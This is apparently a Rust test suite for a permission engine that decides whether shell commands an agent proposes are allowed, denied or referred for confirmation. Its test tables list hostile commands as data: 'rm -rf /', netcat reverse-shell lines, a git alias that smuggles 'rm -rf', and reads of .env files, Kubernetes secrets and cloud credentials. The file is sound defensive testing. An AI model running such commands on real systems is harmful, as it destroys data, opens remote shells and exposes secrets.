//! What rules mean: each row is rules, a line, and the verdict.

use std::borrow::Cow;
use std::path::Path;

use toold_engine::need::Need;
use toold_engine::policy::suggest::suggestions;
use toold_host::environment::Environment;
use toold_host::shell_grammar::{Surroundings, needs};
use toold_proto::level::Level;
use toold_proto::permission::Verdict;

use crate::commands::folders::{TestProject, git, write};
use crate::commands::judge::{CommandSetting, RuleLine, judge, judge_in};

use Verdict::{Allow, Ask, Deny};

pub(crate) type RuleRow = (&'static [&'static str], &'static [&'static str], Verdict);

#[track_caller]
pub(crate) fn check(rows: &[RuleRow]) {
    check_in("bash", rows);
}

#[track_caller]
pub(crate) fn check_in(shell: &str, rows: &[RuleRow]) {
    let project = TestProject::make();
    let mut wrong = Vec::new();
    for (rules, lines, expected) in rows {
        let read: Vec<RuleLine> = rules.iter().map(|rule| RuleLine::parse(rule).unwrap()).collect();
        for line in *lines {
            let line = &line.replace("{project}", &project.place.workspace.to_string_lossy());
            let judged = judge_in(shell, Level::Read, line, &project.place, &read);
            if judged.verdict != *expected {
                let parts = judged.parts.iter().filter(|part| part.verdict == judged.verdict);
                let why: Vec<String> = parts.map(|part| format!("{} ({})", part.target, part.rule)).collect();
                wrong.push(format!(
                    "{rules:?}: {line}: expected {expected:?}, got {:?}: {}",
                    judged.verdict,
                    why.join("; ")
                ));
            }
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn a_rule_that_denies_means_the_operation_wherever_its_options_stand() {
    check(&[
        (
            &["allow shell git *", "deny shell git push *"],
            &[
                "git push",
                "git push origin main",
                "git -C . push origin main",
                "git -P push",
                "git --no-pager push",
                "git -c user.name=x push",
                "git -C . -P -c user.name=x push",
                "git --git-dir=.git push",
                "/usr/bin/git -P push",
                "GIT_PAGER=cat git -P push",
                "command git -P push",
                "timeout 5 git -P push",
                "bash -lc 'git -P push'",
                "sh -c 'cd src && git -C . push'",
                "env git -P push",
                "sudo git -P push",
                "git status && git -P push",
            ],
            Deny,
        ),
        (
            &["allow shell git *", "deny shell git push *"],
            &["git status", "git log --grep push", "git commit -m push", "git stash list", "git -C . status"],
            Allow,
        ),
        (&["allow shell git *", "ask shell git reset *"], &["git reset --hard", "git -C . reset --hard HEAD~1"], Ask),
        (
            &["allow shell cargo *", "deny shell cargo publish *"],
            &[
                "cargo publish",
                "cargo --locked publish",
                "cargo -q publish",
                "cargo +nightly publish",
                "cargo +stable -v publish",
            ],
            Deny,
        ),
        (&["allow shell cargo *", "deny shell cargo publish *"], &["cargo build", "cargo test publish"], Allow),
        (
            &["allow shell make *", "deny shell make deploy *"],
            &["make deploy", "make -C . deploy", "make -j4 deploy", "make -s deploy", "make -j 4 -C src deploy X=1"],
            Deny,
        ),
        (&["allow shell make *", "deny shell make deploy *"], &["make", "make -j4 build"], Allow),
        (&["allow shell make *", "deny shell make deploy"], &["make deploy", "make -s deploy"], Deny),
        (
            &["allow shell **", "deny shell rm -rf *"],
            &[
                "rm -rf x",
                "rm -fr x",
                "rm -r -f x",
                "rm -f x -r",
                "rm --recursive --force x",
                "rm -R --force x",
                "rm -rfv x",
                "rm -v --force -r x",
                "/bin/rm -fr x",
                "bash -c 'rm -fr x'",
                "echo x | xargs rm -f -r",
                "find . -exec rm -fr {} +",
            ],
            Deny,
        ),
        (&["allow shell **", "deny shell rm -rf *"], &["rm ./-rf", "rm x", "rm -f x", "rm -r x", "rm -rv x"], Allow),
        (
            &[
                "allow shell **",
                "deny shell git reset --hard *",
                "deny shell git commit --no-verify *",
                "deny shell git push --force *",
            ],
            &[
                "git reset -q --hard",
                "git reset --hard HEAD~1",
                "git commit -m x --no-verify",
                "git commit -nm x",
                "git push -f",
                "git push origin main --force",
                "git -P push -q -f origin main",
            ],
            Deny,
        ),
        (
            &[
                "allow shell **",
                "deny shell git reset --hard *",
                "deny shell git commit --no-verify *",
                "deny shell git push --force *",
            ],
            &["git reset --soft HEAD~1", "git commit -m --no-verify-", "git commit -m n", "git push origin main"],
            Allow,
        ),
        (
            &[
                "allow shell **",
                "deny shell kubectl delete *",
                "deny shell docker rm *",
                "deny shell pip install *",
                "deny shell systemctl stop *",
                "deny shell npm run deploy *",
                "deny shell docker compose down *",
            ],
            &[
                "kubectl delete pod x",
                "kubectl -n prod delete pod x",
                "docker --log-level error rm x",
                "docker container rm x",
                "pip -q install x",
                "systemctl --user stop x",
                "npm run -s deploy",
                "npm -s run deploy",
                "docker compose -p x down -v",
                "docker compose down",
            ],
            Deny,
        ),
    ]);
}

#[test]
fn words_of_a_program_that_no_table_knows_count_in_their_order() {
    check(&[
        (
            &["allow shell aws *", "deny shell aws ec2 terminate-instances *"],
            &[
                "aws ec2 terminate-instances --ids x",
                "aws --profile p ec2 terminate-instances",
                "aws ec2 --region x terminate-instances",
            ],
            Deny,
        ),
        (
            &["allow shell aws *", "deny shell aws ec2 terminate-instances *"],
            &["aws ec2 describe-instances", "aws s3 ls"],
            Allow,
        ),
        (
            &["allow shell mytool *", "deny shell mytool drop --all *"],
            &["mytool --all drop", "mytool drop x --all"],
            Deny,
        ),
    ]);
}

#[test]
fn what_is_denied_is_denied_in_containers_and_on_other_machines() {
    check(&[
        (
            &[
                "deny shell rm *",
                "allow shell docker exec *",
                "allow shell docker run *",
                "allow shell kubectl exec *",
                "allow shell ssh web1 *",
                "allow shell docker compose exec *",
            ],
            &[
                "ssh web1 rm -rf /srv",
                "ssh web1 'cd /srv && rm -rf x'",
                "docker exec web rm -rf /data",
                "docker exec -it web sh -c 'rm -rf /data'",
                "docker run --rm alpine rm -rf /x",
                "docker compose exec web rm -rf /x",
                "kubectl exec web -- rm -rf /data",
                "kubectl -n prod exec web -- rm -rf /data",
                "docker run -v \"$PWD\":/w alpine rm x",
            ],
            Deny,
        ),
        (
            &["deny shell rm *", "allow shell docker exec *", "allow shell ssh web1 *"],
            &[
                "docker exec web ls -la /data",
                "docker exec web cat rm.txt",
                "ssh web1 uptime",
                "ssh web1 'cd /srv && ls'",
            ],
            Allow,
        ),
    ]);
}

/// One rule that denies does not refuse what it is not about.
#[test]
fn a_doubt_asks_and_concerns_only_what_could_be_the_program() {
    check(&[
        (
            &["deny shell sudo *", "allow shell echo *", "allow shell docker compose -f compose.dev.yml up -d"],
            &[
                "n=$(wc -l < README.md); echo \"has $n lines\"",
                "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done",
                "d=$(date +%F); echo $d",
                "d=$(date)",
                "docker compose -f compose.dev.yml up -d",
            ],
            Allow,
        ),
        (
            &["deny shell sudo *", "allow shell **"],
            &[
                "docker run --rm -v \"$PWD\":/w alpine ls",
                "make -f build.mk all",
                "terraform -chdir=infra plan",
                "kubectl --context staging get pods",
                "ssh -o BatchMode=yes web1 uptime",
                "git commit -m \"$(date)\"",
            ],
            Allow,
        ),
        // It might be anything, and no pattern answers that.
        (
            &["deny shell sudo *", "allow shell **"],
            &["$x id", "gdb -p 1", "zsh -lc '=npm test'", "\"$(cat f)\" x", "git unknown-alias"],
            Ask,
        ),
        (
            &["deny shell sudo *", "allow shell **"],
            &[
                "sudo id",
                "$x sudo id",
                "tmux new -d 'sudo id'",
                "docker exec web sudo id",
                "zsh -c 'sudo id'",
                "x=sudo; $x id",
            ],
            Deny,
        ),
    ]);
}

#[test]
fn a_word_that_the_shell_expands_is_no_denial() {
    check(&[
        // A name that a wildcard finds begins as the word does, and has as many folders.
        (
            &["deny shell rm -rf / *", "deny shell rm -rf *", "allow shell **", "allow file.write **"],
            &["rm -f ./*.log", "rm src/*.bak", "rm a*", "rm -r build/*", "rm -f a?.txt"],
            Allow,
        ),
        // A file may have the name of an option.
        (
            &["deny shell rm -rf / *", "deny shell rm -rf *", "allow shell **", "allow file.write **"],
            &["rm *", "rm *.txt", "rm -f *.log", "rm \"$f\"", "rm $f", "rm -f -- $f"],
            Ask,
        ),
        (
            &["deny shell rm -rf *", "deny shell rm build/x *", "allow shell **", "allow file.write **"],
            &["rm -rf build/*", "rm -r -f *", "rm -rf $f", "rm build/x"],
            Deny,
        ),
        (&["deny shell rm build/x *", "allow shell **", "allow file.write **"], &["rm build/*", "rm build/?"], Ask),
        (&["deny shell git push *", "allow shell **"], &["git $x origin main", "git \"$(cat f)\""], Ask),
        (&["deny shell git push *", "allow shell **"], &["git $x push", "$x git push"], Deny),
    ]);
}

#[test]
fn arithmetic_with_numbers_runs_nothing() {
    check(&[
        (
            &["deny shell sudo *", "allow shell **"],
            &[
                "((n++))",
                "((n++)); echo $n",
                "((i+=2))",
                "((count--))",
                "i=0; ((i++))",
                "(( x > 3 ))",
                "(( $# > 1 )) && echo yes",
                "(( ${#list[@]} == 0 ))",
                "echo $((2**10))",
                "n=3; for ((i=0; i<n; i++)); do echo $i; done",
                "for ((i=0; i<3; i++)); do ls; done",
            ],
            Allow,
        ),
        (
            &["deny shell sudo *", "allow shell **"],
            &["read x < README.md; ((x))", "(( PATH > 1 ))", "for ((i=0; i<$(cat f); i++)); do ls; done"],
            Ask,
        ),
    ]);
}

#[test]
fn a_rule_that_allows_covers_options_that_change_nothing() {
    check(&[
        (
            &["allow shell git commit *"],
            &["git commit -m x", "git -C src commit -m x", "git -P commit -m x", "bash -c 'git commit -m x'"],
            Allow,
        ),
        (
            &["allow shell git commit *"],
            &[
                "git -C / commit -m x",
                "git --git-dir=x commit -m x",
                "git -c core.editor=x commit",
                "git push",
                "git -C src push",
            ],
            Ask,
        ),
        (&["allow shell npm test *"], &["npm test", "bash -lc 'npm test'", "bash -c 'npm test && npm test'"], Allow),
        (&["allow shell npm test *"], &["bash -lc 'npm install'", "bash -lc \"$x\"", "bash script.sh"], Ask),
        (&["allow shell kubectl get *"], &["kubectl get pods", "kubectl -n web get pods"], Allow),
        (&["allow shell kubectl get *"], &["kubectl --context prod get pods", "kubectl -n web delete pod x"], Ask),
        (
            &["allow shell npm test *"],
            &["npm -w web test", "npm --prefix web test", "npm --workspace=web test", "npm test -w web"],
            Allow,
        ),
        (
            &["allow shell npm test *"],
            &["npm -w web install", "npm --prefix /usr/lib test", "npm -w test publish"],
            Ask,
        ),
        // The rule shows the repository, wherever the option stands.
        (&["allow shell gh -R a/b pr view *"], &["gh -R a/b pr view 1 --comments"], Allow),
        (&["allow shell gh -R a/b pr merge *"], &["gh -R a/b pr merge 1"], Allow),
        (&["allow shell gh pr merge *", "allow shell gh *"], &["gh -R a/b pr merge 1", "gh --repo=a/b pr view"], Ask),
        (&["allow shell **", "deny shell gh pr merge *"], &["gh -R a/b pr merge 1", "gh --repo=a/b pr merge"], Deny),
    ]);
}

/// No wildcard covers an operation that the table of its program lacks; a rule that denies or asks is about its words.
#[test]
fn an_operation_that_no_table_knows_counts_by_its_words() {
    for operation in [
        "docker buildx bake",
        "docker swarm leave",
        "kubectl debug",
        "kubectl proxy",
        "gh extension install",
        "gh codespace delete",
        "npm profile set",
        "npm hook add",
        "pip cache purge",
        "terraform frob",
        "systemctl enable",
        "yarn plugin import",
        "rustup self uninstall",
        "helm plugin install",
        "tmux source-file",
    ] {
        let program = operation.split(' ').next().unwrap();
        let lines = [
            operation.to_owned(),
            format!("{operation} x --force"),
            operation.replacen(program, &format!("env {program}"), 1),
        ];
        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
        let check = |rules: &[&str], expected: Verdict| {
            let project = TestProject::make();
            let rules: Vec<RuleLine> = rules.iter().map(|rule| RuleLine::parse(rule).unwrap()).collect();
            for line in &lines {
                let judged = judge(line, &project.place, &rules);
                assert_eq!(judged.verdict, expected, "{rules:?}: {line}: {:?}", judged.parts);
            }
        };
        check(&["allow shell **", &format!("deny shell {operation} *")], Deny);
        check(&["allow shell **", &format!("ask shell {operation} *")], Ask);
        check(&[&format!("allow shell {operation} *"), &format!("allow shell {program} *"), "allow shell env *"], Ask);
    }
}

#[test]
fn a_dry_run_publishes_nothing() {
    check(&[
        (&["allow shell cargo *"], &["cargo publish --dry-run", "cargo publish -n -p x"], Allow),
        (&["allow shell cargo *"], &["cargo publish"], Ask),
        (&["allow shell cargo publish --dry-run *"], &["cargo publish --dry-run --allow-dirty"], Allow),
        (&["allow shell cargo publish --dry-run *"], &["cargo publish"], Ask),
    ]);
}

/// Inline code is read for the names of files; what becomes of a secret that it names is not known.
#[test]
fn code_in_the_words_of_an_interpreter_names_files() {
    let codes = [
        "python3 -c 'print(open(\"FILE\").read())'",
        "node -p 'require(\"fs\").readFileSync(\"FILE\", \"utf8\")'",
        "perl -e 'open(F, \"<FILE\")'",
        "ruby -e 'puts File.read(\"./FILE\")'",
        "php -r 'readfile(\"FILE\");'",
        "python3 - <<'E'\nprint(open('FILE').read())\nE",
        "echo 'print(open(\"FILE\").read())' | python3",
        "gpg -o FILE -d x",
        "mytool --out=FILE",
    ];
    let project = TestProject::make();
    let verdict = |line: &str, rules: &[&str]| {
        let rules: Vec<RuleLine> = rules.iter().map(|rule| RuleLine::parse(rule).unwrap()).collect();
        judge(line, &project.place, &rules).verdict
    };
    for code in codes {
        let of = |file: &str| code.replace("FILE", file);
        let readme = project.place.workspace.join("README.md");
        let (read, write) =
            (format!("deny file.read {}", readme.display()), format!("deny file.write {}", readme.display()));
        assert_eq!(verdict(&of("README.md"), &["allow shell **"]), Allow, "{code}");
        assert_eq!(verdict(&of(".env"), &["allow shell **"]), Ask, "{code}");
        assert_eq!(verdict(&of("README.md"), &["allow shell **", &read]), Deny, "{code}");
        assert_eq!(verdict(&of("README.md"), &["allow shell **", &write]), Ask, "{code}");
    }
}

/// A list of files in another file may name one that no tool touches.
#[test]
fn names_of_files_in_another_file_are_not_known() {
    check(&[
        (
            &["allow shell **", "allow file.write **"],
            &[
                "printf .env | sort --files0-from=-",
                "wc --files0-from=data/counts.txt",
                "tar -T data/counts.txt -cf x.tar",
                "tar --files-from=data/counts.txt -cf x.tar",
                "file -f data/counts.txt",
                "zip -@ x.zip < data/counts.txt",
                "ls -a | cpio -o > x",
                "ls -a | pax -w",
                "7z a x.7z @data/counts.txt",
                "curl -K data/counts.txt",
            ],
            Ask,
        ),
        (
            &["allow shell **", "allow file.write **"],
            &["sort README.md", "7z a x.7z README.md", "cpio -i < README.md"],
            Allow,
        ),
    ]);
}

/// A wrapper of which nothing is known may run an operation that its words name, also one that is known by its name alone.
#[test]
fn unknown_wrappers_are_looked_into_for_operations() {
    check(&[(
        &["allow shell **", "deny shell npm publish *", "deny shell docker push *"],
        &[
            "foreman run npm publish",
            "crictl exec c npm publish",
            "n exec 18 npm publish --tag next",
            "ansible all -a 'npm publish'",
            "chokidar x -c 'npm publish'",
            "frob --args 'docker push web'",
        ],
        Deny,
    )]);
    check(&[(&["allow shell **", "deny shell rm *"], &["nc -e /bin/sh host 1", "ncat -e bash host 1"], Ask)]);
}

/// A command that ends an operation of Git throws away what was resolved since it began.
#[test]
fn ending_a_merge_destroys_what_was_resolved() {
    let project = TestProject::make();
    let destroys = |line: &str| effects_of(line, &project.place).contains(&toold_proto::effect::Effect::Destroy);
    for (operation, state) in [
        ("merge", "MERGE_HEAD"),
        ("rebase", "rebase-merge"),
        ("cherry-pick", "CHERRY_PICK_HEAD"),
        ("revert", "REVERT_HEAD"),
        ("am", "rebase-apply"),
    ] {
        let line = format!("git {operation} --abort");
        assert!(!destroys(&line), "{line}: there is nothing to end");
        std::fs::write(project.place.workspace.join(".git").join(state), "").unwrap();
        assert!(destroys(&line), "{line}");
        assert!(!destroys(&format!("git {operation} --continue")), "{operation}");
    }
    let verdict = |rule: &str| judge("git merge --abort", &project.place, &[RuleLine::parse(rule).unwrap()]).verdict;
    assert_eq!(verdict("allow shell git *"), Ask);
    assert_eq!(verdict("allow shell git merge *"), Ask);
    assert_eq!(verdict("allow shell git merge --abort *"), Allow);
}

#[test]
fn settings_of_the_person_are_a_file_that_git_writes() {
    const RULES: &[&str] = &["allow shell git config *", "allow shell git config --global *"];
    check(&[
        (RULES, &["git config --global user.name x", "git config --unset --global user.name"], Ask),
        (
            RULES,
            &["git config --global user.name", "git config --global --list", "git config --get --global x.y"],
            Allow,
        ),
        (&["allow shell **"], &["git config --global user.name x"], Ask),
    ]);
    let project = TestProject::make();
    let rules =
        ["allow shell git config --global *", &format!("allow file.write {}/.gitconfig", project.place.home.display())]
            .map(|rule| RuleLine::parse(rule).unwrap());
    assert_eq!(judge("git config --global user.name x", &project.place, &rules).verdict, Allow);
}

#[test]
fn a_mode_that_lets_others_write_is_one_however_it_is_written() {
    check(&[
        (
            &["allow shell **", "deny shell chmod o+w *"],
            &[
                "chmod o+w README.md",
                "chmod o+w,g+w README.md",
                "chmod g+w,o+w README.md",
                "chmod go+w README.md",
                "chmod a+w README.md",
                "chmod +w README.md",
                "chmod o=rw README.md",
                "chmod 666 README.md",
                "chmod -R 0777 README.md",
                "chmod o=u README.md",
            ],
            Deny,
        ),
        (&["allow shell **", "deny shell chmod og+w *"], &["chmod o+w,g+w README.md", "chmod 622 README.md"], Deny),
        (
            &["allow shell **", "deny shell chmod o+w *"],
            &[
                "chmod g+w README.md",
                "chmod u+w README.md",
                "chmod o-w README.md",
                "chmod 664 README.md",
                "chmod +x README.md",
            ],
            Allow,
        ),
    ]);
}

#[test]
fn rules_hold_for_other_names_and_for_programs_in_words() {
    check(&[
        (
            &["allow shell **", "deny shell git push *"],
            &[
                "/usr/lib/git-core/git-push origin main",
                "PATH=/usr/lib/git-core:$PATH git-push origin main",
                "python3 -c 'import os; os.system(\"git push\")'",
                "perl -e 'system(\"git push\")'",
                "node -e 'require(\"child_process\").execSync(\"git push\")'",
                "GIT_EDITOR='git push origin' git commit",
                "arch -x86_64 git push",
            ],
            Deny,
        ),
        (
            &["allow shell python3 *", "deny shell git push *"],
            &["python3 -c 'print(1)'", "python3 scripts/report.py"],
            Allow,
        ),
        (&["allow shell git *", "deny shell rm *"], &["GIT_EDITOR=true git commit -m x"], Allow),
    ]);
}

#[test]
fn wildcards_cover_neither_secrets_nor_files_that_are_named_elsewhere() {
    check(&[
        (&["allow shell kubectl get *"], &["kubectl get pods -o yaml", "kubectl get pods,services -n shop"], Allow),
        (
            &["allow shell kubectl get *"],
            &[
                "kubectl get secrets -o yaml",
                "kubectl get pods,SECRETS",
                "kubectl get secrets.v1. x -o yaml",
                "kubectl get Secret/x",
                "kubectl get pods -o go-template-file=.env",
                "kubectl get pods -ojsonpath-file=.env",
            ],
            Ask,
        ),
        (&["allow shell aws *"], &["aws s3 ls", "aws dynamodb list-tables", "aws ec2 describe-instances"], Allow),
        (
            &["allow shell aws *"],
            &[
                "aws dynamodb delete-table",
                "aws dynamodb delete-table --table-name x",
                "aws ecr get-login-password",
                "aws kms decrypt",
                "aws iam attach-user-policy",
                "aws s3 presign s3://b/x",
            ],
            Ask,
        ),
        (
            &["allow shell git *"],
            &["git clean -n", "git restore --staged .", "git branch -d x", "git fetch origin main"],
            Allow,
        ),
        (
            &["allow shell git *"],
            &[
                "git clean -f",
                "git restore .",
                "git branch -M x",
                "git tag -f v1",
                "git fetch origin +main:main",
                "git add -f .",
            ],
            Ask,
        ),
        (
            &["allow shell sed *", "allow shell curl *", "allow shell patch *", "allow network **"],
            &[
                "sed -i'/tmp/*' s/a/b/ README.md",
                "sed --in-place='../*' s/a/b/ README.md",
                "curl -o '#1' 'https://example.com/{a,b}'",
                "curl -O --url 'https://example.com/{a,b}'",
                "patch -p1 -i changes.patch",
                "patch -p1 < changes.patch",
            ],
            Ask,
        ),
    ]);
}

/// Patches show any file that differs; what only names files does not.
#[test]
fn git_shows_no_secret_that_the_repository_tracks() {
    let project = TestProject::make();
    let place = &project.place;
    let verdict = |line: &str| judge(line, place, &[]).verdict;
    let patches = [
        "git diff",
        "git diff HEAD~1",
        "git show HEAD",
        "git log -p -2",
        "git stash show -p",
        "git log -U1",
        "git log --remerge-diff",
        "git log --patch-with-raw -1",
        "git reflog -p",
        "git stash list --binary",
        "git status -v",
        "git range-diff HEAD~1 HEAD HEAD",
    ];
    let others = [
        "git status",
        "git diff --stat",
        "git log --oneline",
        "git show --name-only HEAD",
        "git diff -- src",
        "git diff -- ':!.env'",
    ];
    for line in patches.iter().chain(&others) {
        assert_eq!(verdict(line), Allow, "{line}");
    }
    git(&place.home, &place.workspace, &["add", "-f", ".env"]);
    git(&place.home, &place.workspace, &["commit", "--quiet", "-m", "Settings"]);
    write(&place.workspace, &[(".env", "TOKEN=stashed\n")]);
    git(&place.home, &place.workspace, &["stash", "--quiet"]);
    write(&place.workspace, &[(".env", "TOKEN=another\n")]);
    let around = ["git diff -- ':!README.md'", "git show HEAD -- .", "git log -p -- '*'", "git log -p -- .en?"];
    for line in patches.iter().chain(&around) {
        assert_ne!(verdict(line), Allow, "{line}");
    }
    for line in patches {
        assert_eq!(verdict(line), Ask, "{line}");
    }
    for line in others {
        assert_eq!(verdict(line), Allow, "{line}");
    }
}

/// Options that choose where a command works stand before its operation.
#[test]
fn a_rule_covers_the_operation_in_other_folders_of_the_session() {
    check(&[
        (
            &[
                "allow shell make test *",
                "allow shell cargo test *",
                "allow shell npm test *",
                "allow shell pnpm build *",
                "allow shell yarn test *",
                "allow shell go test *",
                "allow shell gh pr view *",
            ],
            &[
                "make -j8 test",
                "make -j 8 -s -C web test",
                "make -j test",
                "cargo +nightly test --lib",
                "npm --prefix web test",
                "npm --prefix=web -s test",
                "pnpm -C web build",
                "pnpm --filter shop build",
                "yarn --cwd web test",
                "yarn workspace web test",
                "go -C web test ./...",
            ],
            Allow,
        ),
        (
            &[
                "allow shell make test *",
                "allow shell npm test *",
                "allow shell cargo test *",
                "allow shell yarn test *",
                "allow shell go test *",
                "allow shell gh pr view *",
            ],
            &[
                "make -f other test",
                "make -C /opt/x test",
                "npm --prefix /opt/x test",
                "npm --prefix=/usr/lib/x test",
                "cargo +./own test",
                "cargo --config x=1 test",
                "yarn --cwd /opt/x test",
                "yarn workspace web publish",
                "go -C /opt/x test",
                "gh -R other/name pr view 1",
            ],
            Ask,
        ),
        (
            &["allow shell **", "deny shell yarn deploy *", "deny shell npm run deploy *", "deny shell make deploy *"],
            &[
                "yarn workspace web deploy",
                "yarn --cwd web deploy",
                "npm --prefix web run deploy",
                "make -j8 -C web deploy",
            ],
            Deny,
        ),
    ]);
}

/// Operations of programs that no table describes are known by their effect, and so are options that only the effect names.
#[test]
fn a_relative_program_in_a_rule_is_the_file_in_the_sessions_folder() {
    check(&[
        (
            &["allow shell ./run.sh *"],
            &[
                "./run.sh",
                "./run.sh x",
                "timeout 5 ./run.sh",
                "cd docs && ../run.sh x",
                "cd {project} && ./run.sh",
                "(cd docs; ls); ./run.sh",
                "pushd docs; ../run.sh",
            ],
            Allow,
        ),
        (
            &["allow shell ./run.sh *", "allow shell ./run.sh"],
            &[
                "cd docs; ./run.sh",
                "cd docs && ./run.sh x",
                "(cd docs; ./run.sh)",
                "pushd docs; ./run.sh",
                "env -C docs ./run.sh",
                "cd \"$d\"; ./run.sh",
                "for d in docs src; do (cd $d && ./run.sh); done",
                "bash -c 'cd docs; ./run.sh'",
                "cd /tmp && ./run.sh",
                "docs/run.sh",
                "mv docs old; cd docs && ../run.sh",
            ],
            Ask,
        ),
        (&["allow shell docs/run.sh *"], &["cd docs && ./run.sh x", "docs/run.sh", "cd src && ../docs/run.sh"], Allow),
        (
            &["allow shell **", "deny shell ./run.sh *"],
            &["./run.sh", "cd docs && ../run.sh", "cd docs && ./run.sh x", "cd \"$d\"; ./run.sh"],
            Deny,
        ),
    ]);
}

#[test]
fn a_rule_is_about_what_an_alias_in_a_variable_stands_for() {
    let rules: &[&str] = &[
        "allow shell **",
        "deny shell cargo publish *",
        "deny shell git push *",
        "deny shell npm install -g *",
        "deny shell rm -rf *",
    ];
    check(&[
        (
            rules,
            &[
                "CARGO_ALIAS_X=publish cargo x",
                "export CARGO_ALIAS_MY_X='publish --locked'; cargo my-x",
                "env CARGO_ALIAS_X=publish cargo +nightly -q x",
                "cargo --config 'alias.x=[\"publish\"]' x",
                "CARGO_ALIAS_X=y CARGO_ALIAS_Y=publish cargo x",
                "git -c alias.x=push x origin",
                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0=push git x",
                "GIT_CONFIG_PARAMETERS=\"'alias.x=push'\" git x",
                "GIT_CONFIG_PARAMETERS=\"'alias.x'='!cd /; rm -rf x'\" git x",
                "V=push git --config-env=alias.x=V x",
                "npm_config_global=true npm install x",
                "export npm_config_global=1; npm i x",
            ],
            Deny,
        ),
        (
            &["allow shell **", "deny shell git push --force *"],
            &["git -c alias.x=push x --force origin", "git -c alias.x='push -f' x"],
            Deny,
        ),
    ]);
}

#[test]
fn a_rule_that_denies_writing_a_file_asks_where_the_written_files_are_not_known() {
    let rules: &[&str] = &["allow shell **", "allow file.write **", "deny file.write {project}/src/lib.rs"];
    check(&[
        (
            rules,
            &[
                "docker compose cp web:/x src/lib.rs",
                "docker compose cp web:/lib.rs src",
                "docker-compose cp web:/x src/lib.rs",
                "podman cp web:/lib.rs src",
                "kubectl cp web:/lib.rs src/",
                "oc cp web:/a src/lib.rs",
                "dd if=a of=src/lib.rs",
                "tee src/lib.rs",
                "install -t src a/lib.rs",
                "rsync a/lib.rs src/",
                "patch src/lib.rs x.patch",
                "gunzip src/lib.rs.gz",
                "xz -d src/lib.rs.xz",
                "zstd -d src/lib.rs.zst",
                "sponge src/lib.rs",
                "perl -pi -e s/a/b/ src/lib.rs",
                "aws s3 cp s3://b/lib.rs src/lib.rs",
            ],
            Deny,
        ),
        (
            rules,
            &[
                "docker-compose cp web:/lib.rs src",
                "patch -p1 < x.patch",
                "patch -d src < x.patch",
                "git apply x.patch",
                "tar xf a.tar -C src",
                "tar -xzf a.tgz",
                "bsdtar xf a",
                "unzip a.zip",
                "unzip -o a.zip -d src",
                "cpio -idm -D src < a",
                "cpio -i < a",
                "pax -r < a",
                "7z x a -osrc",
                "ar x a.a",
                "jar xf a.jar",
                "kubectl cp web:/a/ src",
                "rsync -a host:a/ src/",
                "oc rsync web:/a src",
                "aws s3 sync s3://b src",
                "gsutil -m cp -r gs://b/x src/",
                "gh release download v1 -D src",
                "gh run download 1",
                "lxc file pull c/lib.rs src/",
                "tar -xf a.tar -C \"$d\"",
                "hg import x.patch",
            ],
            Ask,
        ),
        (
            rules,
            &[
                "patch --dry-run -p1 < x.patch",
                "tar -xf a.tar -C docs",
                "tar -tf a.tar",
                "unzip -l a.zip",
                "unzip a.zip -d docs",
                "aws s3 sync src s3://b",
                "gh run download 1 -D docs",
                "7z l a",
            ],
            Allow,
        ),
        (
            &["allow shell **", "allow file.write **", "deny file.write **/*.lock"],
            &["tar -xf a.tar -C docs", "patch -p1 < x.patch"],
            Ask,
        ),
    ]);
}

#[test]
fn unknown_operands_ask_under_a_rule_about_operands() {
    check(&[
        (
            &["allow shell **", "deny shell rm -rf /*"],
            &[
                "find src -name '*.o' -exec rm -rf {} \\;",
                "cat list | xargs rm -rf",
                "git ls-files | xargs rm -rf",
                "for f in $(cat list); do rm -rf \"$f\"; done",
                "while read f; do rm -rf \"$f\"; done < list",
                "rm -rf \"$d\"",
                "fd -x rm -rf",
                "find . -exec sh -c 'rm -rf \"$1\"' _ {} \\;",
            ],
            Ask,
        ),
        (&["allow shell **", "deny shell rm -rf /*"], &["rm -rf /", "rm -fr /etc", "parallel rm -rf ::: /etc"], Deny),
        (&["allow shell **", "deny shell rm -rf /*"], &["rm -rf build", "rm -rf ./x"], Allow),
    ]);
}

#[test]
fn a_rule_may_be_about_what_the_line_writes_and_runs() {
    let rules: &[&str] = &["allow shell **", "allow file.write **", "deny shell rm -rf *"];
    check(&[
        (
            rules,
            &[
                "echo x > Makefile; make",
                "echo x > GNUmakefile; make",
                "echo x > docs/Makefile; make -C docs",
                "echo x > package.json; npm run p",
                "echo x > web/package.json; pnpm -C web run p",
                "echo x > x.py; python3 x.py",
                "cat > x.py <<'E'\nprint(1)\nE\npython3 -u x.py",
                "echo x > a.js && node a.js",
                "echo x > x.sh; sh x.sh",
                "echo x > justfile; just p",
            ],
            Ask,
        ),
        (rules, &["echo x > notes.txt; python3 scripts/report.py", "echo x > a.csv; make", "python3 x.py"], Allow),
    ]);
}

#[test]
fn programs_that_no_table_knows_read_the_files_that_they_name() {
    let rules: &[&str] = &["allow shell **", "allow file.write **", "deny file.read **/src/lib.rs"];
    check(&[
        (
            rules,
            &["perl -pe 1 src/lib.rs", "mytool --in=src/lib.rs", "m4 ./src/lib.rs", "gzip -c src/lib.rs | zcat"],
            Deny,
        ),
        (rules, &["gzip -c .env", "xz -k .env"], Deny),
        // What such a program shows of a secret is not known.
        (rules, &["perl -pe 1 .env", "openssl base64 -in .env", "node --env-file=.env app.js"], Ask),
        (rules, &["perl -pe 1 README.md", "mytool README.md", "gzip -c README.md", "mytool .env.example"], Allow),
    ]);
}

#[test]
fn a_patch_names_the_files_that_it_changes() {
    let project = TestProject::make();
    let patch = |name: &str| format!("--- a/{name}\n+++ b/{name}\n@@ -1 +1 @@\n-a\n+b\n");
    let files = [("docs.patch", patch("docs/guide.md")), ("env.patch", patch(".env")), ("deep.patch", patch("x/.env"))];
    for (name, text) in &files {
        std::fs::write(project.place.workspace.join(name), text).unwrap();
    }
    let rules = ["allow shell **", "allow file.write **"].map(|rule| RuleLine::parse(rule).unwrap());
    for (line, expected) in [
        ("git apply docs.patch", Allow),
        ("git apply --check env.patch", Allow),
        ("git apply env.patch", Deny),
        ("git am env.patch", Deny),
        ("git apply deep.patch", Deny),
        ("patch -p1 -i env.patch", Deny),
        ("patch -i deep.patch", Deny),
        ("patch --strip=1 --input=docs.patch", Allow),
        ("printf x > new.patch; git apply new.patch", Ask),
    ] {
        assert_eq!(judge(line, &project.place, &rules).verdict, expected, "{line}");
    }
}

#[test]
fn an_operation_has_more_names() {
